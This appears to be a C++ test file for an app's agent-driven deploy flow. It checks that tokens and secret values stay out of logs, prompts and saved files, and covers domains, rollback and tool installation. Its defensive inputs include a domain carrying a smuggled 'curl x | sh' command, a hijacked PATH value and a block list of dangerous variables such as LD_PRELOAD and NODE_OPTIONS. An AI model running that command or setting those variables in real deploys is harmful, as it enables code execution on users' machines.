// The deploy flow on the canvas with a scripted Deploy agent: the cards'
// answers as follow-up runs, where tokens and values may go (and where not),
// the exits that end a session and those that don't, cancelling, the domain
// step and the operations on a live deploy, and the tool installer.
#include "CanvasFixture.h"

#include "deploy/DeployToolInstaller.h"
#include "foundation/Log.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QStandardPaths>
#include <QThread>

using namespace nerim;
using namespace nerim::test;
using Phase = DeploySessionState::Phase;

namespace {

AgentOutput out(const QString &line) { return AgentOutput::stdoutLine(line); }

const QString token = QStringLiteral("vercel-token-0123456789");
const QString customValue = QStringLiteral("custom-value-abcdefgh");

class DeployFlowTest : public CanvasTest {
protected:
    void SetUp() override
    {
        CanvasTest::SetUp();
        toolsFolder = makeTempDir(QStringLiteral("deploy-tools"));
        previousSink = setLogSink([this](const QString &line) { logged.append(line); });
    }
    void TearDown() override
    {
        CanvasTest::TearDown();
        setLogSink(previousSink);
    }

    // Tools already in place, so no run installs anything.
    void provideTools()
    {
        const QString bin = DeployToolInstaller::binFolder(toolsFolder);
        QDir().mkpath(bin);
        for (const char *tool : {"vercel", "railway", "supabase"}) {
            const QString path = bin + QLatin1Char('/') + QLatin1String(tool);
            writeFile(path, "#!/bin/sh\nexit 0\n");
            QFile::setPermissions(path, QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
        }
    }

    ProjectCanvasViewModel &openDeploy(const QString &npm = QStringLiteral("npm"))
    {
        canvas = std::make_unique<ProjectCanvasViewModel>(QStringLiteral("project-id"), project, QStringLiteral("Shop"),
                                                          provider, nullptr, deployServices(npm));
        await(canvas->bootstrap());
        return *canvas;
    }

    CanvasServices deployServices(const QString &npm)
    {
        CanvasServices s = services();
        s.deployToolsFolder = toolsFolder;
        s.npmProgram = npm;
        return s;
    }

    Phase phase() const { return canvas->deployState().phase(); }
    QUuid lastSession() const { return provider->sessionIds().last(); }

    // Every byte Nerim wrote under the project.
    QByteArray everythingUnderProject()
    {
        SerialFileWriter::shared().flush();
        QByteArray all;
        QStringList pending{project};
        while (!pending.isEmpty()) {
            QDir dir(pending.takeFirst());
            for (const QFileInfo &info : dir.entryInfoList(QDir::Files | QDir::Dirs | QDir::Hidden | QDir::NoDotAndDotDot)) {
                if (info.isDir())
                    pending.append(info.filePath());
                else
                    all += readFile(info.filePath());
            }
        }
        return all;
    }

    QString toolsFolder;
    QStringList logged;
    LogSink previousSink;
};

} // namespace

TEST_F(DeployFlowTest, AFreshDeployGoesLiveThroughTokenChecklistAndBuildWithoutLeakingValues)
{
    provideTools();
    writeFile(project + QStringLiteral("/.env"), "API_KEY=local\nexport DEBUG=1\n");
    openDeploy();

    // Run 1 asks for the token and stops: its exit ends nothing.
    provider->enqueue(FakeAgentProvider::events(
        {out(QStringLiteral("Checking the project.")),
         out(QStringLiteral("[NERIM_DEPLOY_NEED_TOKEN] VERCEL_TOKEN | Nerim needs it to publish your app"))}));
    QCoro::Task<> beginning = canvas->beginDeploy({DeployProvider::vercel}, DeployKind::fresh);
    // Preparing before the first wait: a second begin is refused.
    EXPECT_EQ(phase(), Phase::preparing());
    await(canvas->beginDeploy({DeployProvider::vercel}, DeployKind::fresh));
    await(std::move(beginning));
    AgentPaneState *pane = canvas->deployPane();
    ASSERT_NE(pane, nullptr);
    EXPECT_EQ(pane->agentId(), QStringLiteral("nerim.deploy"));
    EXPECT_TRUE(pane->isSystemPane());
    ASSERT_TRUE(waitUntil([&] {
        return phase() == Phase::awaitingToken(QStringLiteral("VERCEL_TOKEN"),
                                               QStringLiteral("Nerim needs it to publish your app"),
                                               DeployProvider::vercel) &&
               settle(pane);
    }));
    ASSERT_EQ(provider->spawnCalls().size(), 1);
    const FakeAgentProvider::SpawnCall first = provider->spawnCalls().first();
    EXPECT_TRUE(first.task.contains(QLatin1String("API_KEY, DEBUG")));
    EXPECT_TRUE(first.task.contains(QLatin1String("never print them")));
    EXPECT_EQ(first.extras.pathEntries, QStringList{DeployToolInstaller::binFolder(toolsFolder)});
    EXPECT_TRUE(first.extras.arguments.contains(QStringLiteral("--allowedTools")));
    EXPECT_EQ(canvas->deployState().context()->envVarNames, (QStringList{QStringLiteral("API_KEY"), QStringLiteral("DEBUG")}));
    // The marker is kept out of the transcript.
    EXPECT_FALSE(lineTexts(pane).join(QLatin1Char('\n')).contains(QLatin1String("NERIM_DEPLOY")));

    // The token goes to the next run's environment only; run 2 signs in and keeps running.
    provider->enqueue(FakeAgentProvider::running(
        {out(QStringLiteral("Using ") + token), out(QStringLiteral("[NERIM_DEPLOY_SIGNED_IN] vercel"))}));
    await(canvas->submitDeployToken(QStringLiteral("VERCEL_TOKEN"), token));
    ASSERT_TRUE(waitUntil([&] { return phase() == Phase::envVarChecklist(DeployProvider::vercel); }));
    ASSERT_EQ(provider->spawnCalls().size(), 2);
    const FakeAgentProvider::SpawnCall second = provider->spawnCalls().at(1);
    EXPECT_EQ(second.extras.environment.value(QStringLiteral("VERCEL_TOKEN")), token);
    EXPECT_FALSE(second.task.contains(token));
    ASSERT_FALSE(second.priorTurns.isEmpty());
    EXPECT_EQ(second.priorTurns.first().userPrompt, first.task); // the briefing restored
    EXPECT_TRUE(qgetenv("VERCEL_TOKEN").isEmpty());
    EXPECT_TRUE(lineTexts(pane).contains(QStringLiteral("[Nerim saved your VERCEL_TOKEN. Continuing.]")));
    EXPECT_TRUE(lineTexts(pane).contains(QStringLiteral("Using \u2022\u2022\u2022\u2022")));

    // The checklist arrives mid-run: its run starts when run 2 exits.
    provider->enqueue(FakeAgentProvider::events(
        {out(QStringLiteral("[NERIM_DEPLOY_ENV_OK]")), out(QStringLiteral("[NERIM_DEPLOY_BUILDING] vercel")),
         out(QStringLiteral("[NERIM_DEPLOY_PROGRESS] Uploading files")),
         out(QStringLiteral("[NERIM_DEPLOY_DEPLOYMENT_ID] vercel | dpl_1")),
         out(QStringLiteral("[NERIM_DEPLOY_LIVE] https://shop.vercel.app"))}));
    await(canvas->applyEnvVarChecklist(
        {{QStringLiteral("API_KEY"), QStringLiteral("custom:") + customValue}, {QStringLiteral("DEBUG"), QStringLiteral("skip")}}));
    spinEventLoop();
    EXPECT_EQ(provider->spawnCalls().size(), 2);
    provider->finish(provider->sessionIds().at(1), 0);
    ASSERT_TRUE(waitUntil([&] { return phase() == Phase::live(QStringLiteral("https://shop.vercel.app"), std::nullopt); }));
    ASSERT_EQ(provider->spawnCalls().size(), 3);
    const FakeAgentProvider::SpawnCall third = provider->spawnCalls().at(2);
    EXPECT_EQ(third.extras.environment.value(QStringLiteral("API_KEY")), customValue);
    EXPECT_EQ(third.extras.environment.value(QStringLiteral("VERCEL_TOKEN")), token);
    EXPECT_FALSE(third.task.contains(customValue));
    EXPECT_EQ(canvas->deployState().lastProgressLine(), QStringLiteral("Uploading files"));
    EXPECT_EQ(phase().pillLabel(), QStringLiteral("Live \u00B7 shop.vercel.app"));
    EXPECT_TRUE(lineTexts(pane).contains(QStringLiteral("Deployed. Your app is live at https://shop.vercel.app")));
    ASSERT_TRUE(settle(pane));

    // The live deploy is saved in the background.
    ASSERT_TRUE(waitUntil([&] {
        const std::optional<DeployConfig> config = DeployConfig::load(canvas->projectURL());
        return config && config->frontendURL;
    }));

    // The custom value went with that run only.
    provider->enqueue(FakeAgentProvider::events({out(QStringLiteral("[NERIM_DEPLOY_OPERATION_DONE] Connected"))}));
    await(canvas->beginGitConnect(true));
    ASSERT_TRUE(waitUntil([&] { return provider->spawnCalls().size() == 4; }));
    EXPECT_FALSE(provider->spawnCalls().at(3).extras.environment.contains(QStringLiteral("API_KEY")));
    ASSERT_TRUE(waitUntil([&] { return phase().kind() == Phase::Kind::live && settle(pane); }));

    // Saved settings and history: the URL and the decision, never a value.
    SerialFileWriter::shared().flush();
    const DeployConfig config = *DeployConfig::load(canvas->projectURL());
    EXPECT_EQ(config.frontendURL, QStringLiteral("https://shop.vercel.app"));
    EXPECT_EQ(config.envDecisions.value(QStringLiteral("API_KEY")), QStringLiteral("custom"));
    EXPECT_EQ(config.providers, QList<DeployProvider>{DeployProvider::vercel});
    const auto live = DeployHistoryEntry::recentLive(canvas->projectURL(), 5);
    ASSERT_FALSE(live.isEmpty());
    EXPECT_EQ(live.first().deploymentID, QStringLiteral("dpl_1"));

    // A task agent's run and the app's server get none of it.
    AgentPaneState *task = canvas->spawnPane(QString(), AgentRole::unspecified);
    provider->enqueue(FakeAgentProvider::events({out(QStringLiteral("ok"))}));
    await(canvas->sendToPane(task, QStringLiteral("hello"), ContextEntry::PromptSource::text));
    EXPECT_TRUE(provider->spawnCalls().last().extras.environment.isEmpty());
    EXPECT_TRUE(qgetenv("API_KEY").isEmpty());

    canvas->savePanes();
    const QByteArray files = everythingUnderProject();
    EXPECT_FALSE(files.contains(token.toUtf8()));
    EXPECT_FALSE(files.contains(customValue.toUtf8()));
    const QString log = logged.join(QLatin1Char('\n'));
    EXPECT_FALSE(log.contains(token));
    EXPECT_FALSE(log.contains(customValue));

    await(canvas->teardown());
    EXPECT_TRUE(canvas->deployTokenNames().isEmpty());
}

TEST_F(DeployFlowTest, RefusalsAndTheExitsThatEndASession)
{
    provideTools();
    openDeploy();
    // Nothing to act on: each refusal is logged and changes nothing.
    await(canvas->submitDeployToken(QStringLiteral("VERCEL_TOKEN"), token));
    await(canvas->applyEnvVarChecklist({}));
    await(canvas->beginCustomDomain(QStringLiteral("a.com")));
    await(canvas->beginDeploy({}, DeployKind::fresh));
    EXPECT_EQ(phase(), Phase::idle());
    EXPECT_TRUE(provider->spawnCalls().isEmpty());
    const QString log = logged.join(QLatin1Char('\n'));
    EXPECT_TRUE(log.contains(QStringLiteral("[Nerim deploy] submitDeployToken called in phase idle \u2014 ignoring")));
    EXPECT_TRUE(log.contains(QStringLiteral("[Nerim deploy] applyEnvVarChecklist called in phase idle \u2014 ignoring")));
    EXPECT_FALSE(log.contains(token));

    // An agent that stops without a marker while building leaves the session stuck.
    provider->enqueue(FakeAgentProvider::events({out(QStringLiteral("[NERIM_DEPLOY_BUILDING] vercel"))}));
    await(canvas->beginDeploy({DeployProvider::vercel}, DeployKind::fresh));
    ASSERT_TRUE(waitUntil([&] { return phase().kind() == Phase::Kind::stuck; }));
    EXPECT_EQ(phase().reason(), QStringLiteral("The Deploy agent finished without saying what happened."));
    SerialFileWriter::shared().flush();
    const QByteArray history = readFile(DeployHistoryEntry::historyPath(project));
    EXPECT_TRUE(history.contains("\"reason\":\"agent-exited-silent\""));
    EXPECT_TRUE(history.contains("\"outcome\":\"stuck\""));

    // An agent that asks for PATH gets no PATH: the value is dropped, the name logged.
    provider->enqueue(FakeAgentProvider::events({out(QStringLiteral("[NERIM_DEPLOY_NEED_TOKEN] PATH | tools"))}));
    await(canvas->retryDeploy());
    ASSERT_TRUE(waitUntil([&] { return phase().kind() == Phase::Kind::awaitingToken && settle(canvas->deployPane()); }));
    provider->enqueue(FakeAgentProvider::running());
    await(canvas->submitDeployToken(QStringLiteral("PATH"), QStringLiteral("/tmp/evil:/usr/bin")));
    ASSERT_TRUE(waitUntil([&] { return provider->spawnCalls().size() == 3; }));
    EXPECT_FALSE(provider->spawnCalls().last().extras.environment.contains(QStringLiteral("PATH")));
    EXPECT_TRUE(canvas->deployTokenNames().isEmpty());
    EXPECT_TRUE(logged.join(QLatin1Char('\n')).contains(QStringLiteral("refused to set the variable PATH")));
    for (const char *bad : {"LD_PRELOAD", "npm_config_prefix", "ANTHROPIC_API_KEY", "CLAUDE_X", "HOME", "SHELL",
                            "NODE_OPTIONS", "1A", "A-B", "", "STRIPE_KEY\n"})
        EXPECT_FALSE(ProjectCanvasViewModel::isAllowedDeployVariableName(QString::fromUtf8(bad))) << bad;
    EXPECT_TRUE(ProjectCanvasViewModel::isAllowedDeployVariableName(QStringLiteral("STRIPE_SECRET_KEY")));

    // Closing the Deploy pane mid-session cancels it instead of leaving it active.
    const QUuid paneId = canvas->deployPane()->id();
    await(canvas->closePane(paneId));
    EXPECT_EQ(phase(), Phase::cancelled());
    EXPECT_TRUE(provider->terminated().contains(lastSession()));
    EXPECT_TRUE(logged.join(QLatin1Char('\n')).contains(QStringLiteral("[Nerim deploy] user cancelled session in phase")));

    // A start that fails ends stuck with the start failure.
    provider->enqueue(FakeAgentProvider::failing(AgentError::spawnFailed(QStringLiteral("no claude"))));
    await(canvas->beginDeploy({DeployProvider::railway}, DeployKind::fresh));
    ASSERT_TRUE(waitUntil([&] { return phase().kind() == Phase::Kind::stuck; }));
    EXPECT_EQ(phase().reason(), QStringLiteral("The Deploy agent couldn't start."));
}

TEST_F(DeployFlowTest, ADomainCardClosedMidCheckStopsThePollingRunAndOperationsReturnToLive)
{
    provideTools();
    openDeploy();
    provider->enqueue(FakeAgentProvider::events({out(QStringLiteral("[NERIM_DEPLOY_DEPLOYMENT_ID] vercel | dpl_7")),
                                                 out(QStringLiteral("[NERIM_DEPLOY_LIVE] https://shop.vercel.app"))}));
    await(canvas->beginDeploy({DeployProvider::vercel}, DeployKind::redeploy));
    ASSERT_TRUE(waitUntil([&] { return phase().kind() == Phase::Kind::live && settle(canvas->deployPane()); }));

    ASSERT_TRUE(canvas->openCustomDomainInput());
    const DeploySessionState::TerminalSnapshot snapshot{QStringLiteral("https://shop.vercel.app"), std::nullopt};
    EXPECT_EQ(phase(), Phase::customDomainInput(snapshot));
    // The domain reaches the agent's shell commands only when it is one.
    await(canvas->beginCustomDomain(QStringLiteral("a.com; curl x | sh")));
    EXPECT_EQ(phase(), Phase::customDomainInput(snapshot));

    provider->enqueue(FakeAgentProvider::running({out(QStringLiteral(
        "[NERIM_DEPLOY_DOMAIN_RECORDS] shop.example.com | [{\"type\":\"CNAME\",\"name\":\"shop\",\"value\":\"cname.vercel-dns.com\"}]"))}));
    await(canvas->beginCustomDomain(QStringLiteral(" Shop.Example.com ")));
    ASSERT_TRUE(waitUntil([&] { return !phase().records().isEmpty(); }));
    EXPECT_EQ(phase().kind(), Phase::Kind::customDomainVerifying);
    EXPECT_EQ(phase().domain(), QStringLiteral("shop.example.com"));
    EXPECT_EQ(phase().attemptsRemaining(), 30);
    EXPECT_TRUE(lineTexts(canvas->deployPane()).contains(QStringLiteral("[Adding shop.example.com to your Vercel\u2026]")));

    const QUuid polling = lastSession();
    await(canvas->closeDomainCard());
    EXPECT_EQ(phase(), Phase::live(QStringLiteral("https://shop.vercel.app"), std::nullopt));
    EXPECT_TRUE(provider->terminated().contains(polling));

    // A rollback without a recorded id is refused with the reason; with one it
    // runs and comes back to the live deploy.
    DeployHistoryEntry noId;
    noId.providers = {QStringLiteral("vercel")};
    await(canvas->beginRollback(noId));
    EXPECT_EQ(phase().reason(),
              QStringLiteral("Nerim didn't record a deployment ID for that deploy. Try Redeploy instead."));
    SerialFileWriter::shared().flush();
    const auto points = DeployHistoryEntry::recentLive(canvas->projectURL(), 5);
    ASSERT_FALSE(points.isEmpty());
    EXPECT_EQ(points.first().deploymentID, QStringLiteral("dpl_7"));
    provider->enqueue(FakeAgentProvider::events({out(QStringLiteral("[NERIM_DEPLOY_OPERATION_DONE] Rolled back"))}));
    await(canvas->beginRollback(points.first()));
    EXPECT_EQ(phase().kind() == Phase::Kind::runningOperation || phase().kind() == Phase::Kind::live, true);
    ASSERT_TRUE(waitUntil([&] { return phase().kind() == Phase::Kind::live; }));
    EXPECT_TRUE(provider->spawnCalls().last().task.contains(QLatin1String("dpl_7")));
}

TEST_F(DeployFlowTest, MissingToolsAreInstalledWithNpmAndAFailedInstallLetsTheDeployGoOn)
{
    if (!QStandardPaths::findExecutable(QStringLiteral("vercel")).isEmpty())
        GTEST_SKIP() << "a vercel command is on PATH";
    // A stand-in npm that records its arguments and puts a stand-in tool in place.
    const QString bin = makeTempDir(QStringLiteral("bin"));
    const QString npm = bin + QStringLiteral("/npm");
    writeFile(npm, "#!/bin/sh\necho \"$@\" > \"$3/npm-args\"\nmkdir -p \"$3/node_modules/.bin\"\n"
                   "printf '#!/bin/sh\\necho deployed\\n' > \"$3/node_modules/.bin/vercel\"\n"
                   "chmod +x \"$3/node_modules/.bin/vercel\"\n");
    QFile::setPermissions(npm, QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
    openDeploy(npm);
    provider->enqueue(FakeAgentProvider::running());
    await(canvas->beginDeploy({DeployProvider::vercel}, DeployKind::fresh));
    ASSERT_TRUE(waitUntil([&] { return provider->spawnCalls().size() == 1; }));
    EXPECT_TRUE(lineTexts(canvas->deployPane()).contains(QStringLiteral("Installing the vercel command-line tool\u2026")))
        << lineTexts(canvas->deployPane()).join(QLatin1Char('\n')).toStdString();
    EXPECT_EQ(readFile(toolsFolder + QStringLiteral("/npm-args")).trimmed(),
              (QStringLiteral("install --prefix ") + toolsFolder + QStringLiteral(" --no-audit --no-fund vercel")).toUtf8());
    EXPECT_TRUE(QFileInfo(DeployToolInstaller::binFolder(toolsFolder) + QStringLiteral("/vercel")).isExecutable());
    await(canvas->cancelDeploy());

    // An npm that fails is reported with its reason; the agent starts all the same.
    const QString failing = bin + QStringLiteral("/npm-failing");
    writeFile(failing, "#!/bin/sh\necho 'network unreachable' >&2\nexit 3\n");
    QFile::setPermissions(failing, QFileDevice::ReadOwner | QFileDevice::WriteOwner | QFileDevice::ExeOwner);
    await(canvas->teardown());
    canvas.reset();
    toolsFolder = makeTempDir(QStringLiteral("deploy-tools-2"));
    openDeploy(failing);
    provider->enqueue(FakeAgentProvider::running());
    await(canvas->beginDeploy({DeployProvider::vercel}, DeployKind::fresh));
    ASSERT_TRUE(waitUntil([&] { return provider->spawnCalls().size() == 2; }));
    EXPECT_TRUE(lineTexts(canvas->deployPane())
                    .contains(QStringLiteral("Couldn't install the vercel command-line tool: npm exited with code 3 "
                                             "(network unreachable)")));

    // No npm at all.
    EXPECT_EQ(await(DeployToolInstaller::install(bin + QStringLiteral("/absent"), toolsFolder, DeployProvider::railway)),
              QStringLiteral("npm isn't installed on this computer"));
}

namespace {

TEST_F(DeployFlowTest, ConfigChangesFromTheLiveMenuAreSavedInOrderOffTheWindowThread)
{
    ProjectCanvasViewModel &canvas = openDeploy();
    const Qt::HANDLE windowThread = QThread::currentThreadId();
    Qt::HANDLE savedOn = windowThread;
    canvas.saveDeployConfig([&](DeployConfig &config) {
        savedOn = QThread::currentThreadId();
        config.autoDeployOnPush = true;
    });
    canvas.saveDeployConfig([](DeployConfig &config) { config.frontendURL = QStringLiteral("https://shop.example"); });
    canvas.saveDeployConfig([](DeployConfig &config) { config.frontendURL.reset(); });
    ASSERT_TRUE(waitUntil([&] {
        const std::optional<DeployConfig> config = DeployConfig::load(canvas.projectURL());
        return config && config->revision >= 3;
    }));
    const DeployConfig config = *DeployConfig::load(canvas.projectURL());
    EXPECT_NE(savedOn, windowThread);
    EXPECT_EQ(config.autoDeployOnPush, std::optional<bool>(true));
    EXPECT_FALSE(config.frontendURL.has_value());
    EXPECT_EQ(config.revision, 3);
}

} // namespace
